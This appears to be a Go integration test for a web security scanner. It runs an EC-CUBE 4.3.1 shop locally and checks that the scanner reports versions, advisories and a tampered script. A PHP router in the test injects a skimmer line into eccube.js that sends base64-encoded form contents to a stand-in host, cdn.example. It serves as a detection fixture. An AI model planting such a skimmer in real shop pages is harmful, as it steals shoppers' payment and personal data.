//go:build unix

package command

import (
	"os"
	"os/exec"
	"path/filepath"
	"testing"

	"sotomi/scanner/sigtest"
)

// shopRouter gives out the public folder of a shop as its .htaccess does, and runs the shop for anything else. With
// SKIMMER set, one of the shop's scripts has more in it.
const shopRouter = `<?php
$shop = getenv('SHOP');
$path = parse_url($_SERVER['REQUEST_URI'], PHP_URL_PATH);
if (getenv('SKIMMER') && $path === '/html/template/default/assets/js/eccube.js') {
    header('Content-Type: text/javascript');
    readfile($shop.$path);
    echo "\n;new Image().src='https://cdn.example/p?'+btoa(document.forms[0].innerText);\n";
    return true;
}
if (preg_match('#^/html/#', $path) && is_file($shop.$path)) {
    return false;
}
$_SERVER['SCRIPT_NAME'] = $_SERVER['PHP_SELF'] = '/index.php';
$_SERVER['SCRIPT_FILENAME'] = $shop.'/index.php';
chdir($shop);
require $shop.'/index.php';
`

// TestLabOfAShop scans a real shop of EC-CUBE 4.3.1 before and after somebody changed one of its scripts. LAB_ECCUBE names its
// folder, with the libraries of Composer in it; docs/CONTRIBUTING.md says how to come by one.
func TestLabOfAShop(t *testing.T) {
	shop := os.Getenv("LAB_ECCUBE")
	if shop == "" {
		t.Skip("SKIPPED: LAB_ECCUBE names no folder with EC-CUBE 4.3.1")
	}
	if _, err := exec.LookPath("php"); err != nil {
		t.Fatal("LAB_ECCUBE needs php")
	}
	r := &labRun{t: t, dir: labDir(t), ports: map[string]int{}}
	router := filepath.Join(r.dir, "router.php")
	if err := os.WriteFile(router, []byte(shopRouter), 0o600); err != nil {
		t.Fatal(err)
	}
	settings := []string{
		"SHOP=" + shop, "APP_ENV=prod", "APP_DEBUG=0", "DATABASE_URL=sqlite:///" + r.dir + "/eccube.db", "DATABASE_SERVER_VERSION=3",
		"MAILER_DSN=null://null", "ECCUBE_AUTH_MAGIC=abcdefghij", "ECCUBE_ADMIN_ROUTE=admin", "ECCUBE_TEMPLATE_CODE=default",
		"ECCUBE_LOCALE=ja", "ECCUBE_COOKIE_PATH=/", "TRUSTED_HOSTS=", "PHP_CLI_SERVER_WORKERS=2",
	}
	install := exec.CommandContext(t.Context(), "php", "bin/console", "eccube:install", "-n")
	install.Dir, install.Env = shop, append(os.Environ(), settings...)
	if out, err := install.CombinedOutput(); err != nil {
		t.Fatalf("eccube:install: %v\n%s", err, out)
	}
	serve := func(port string, more ...string) {
		line := append([]string{"env"}, append(settings, more...)...)
		r.start(append(line, "php", "-d", "variables_order=EGPCS", "-S", `127.0.0.1:{{port "`+port+`"}}`, "-t", shop, router))
	}
	serve("shop")
	serve("skimmed", "SKIMMER=1")
	for _, path := range []string{"/", "/products/list", "/products/detail/1", "/cart", "/admin/login"} {
		r.step(labStep{Port: "shop", Path: path})
	}
	version := map[string]any{"candidates": []string{"4.3.0", "4.3.1", "4.3.1-p1"}, "basis": "files", "modified": []string{}, "base": "/"}
	changed := map[string]any{"candidates": version["candidates"], "modified": []string{"template/default/assets/js/eccube.js"}}
	advisory := map[string]any{"affected": []string{"4.3.0", "4.3.1"}, "fixed": []string{"4.3.1-p1"}}
	for name, found := range map[string][]map[string]any{
		"shop": {version}, "skimmed": {changed, {"file": "template/default/assets/js/eccube.js"}},
	} {
		site := labSite{Name: name, Port: name, Only: []string{"eccube"}, Want: map[string][]map[string]any{
			"eccube-version": found, "eccube-cve-2026-30777": {advisory},
			"eccube-admin-plain-http": {{}}, "eccube4-default-admin": {{}}, // without TLS, at /admin
			"eccube-cve-2022-25355": {{}}, // TRUSTED_HOSTS is empty
			"eccube-payment-pages":  {{"scripts": []string{"yubinbango.github.io"}}},
		}}
		t.Run(name, func(t *testing.T) { r.site(t, site, sigtest.Paces()[0]) })
	}
}
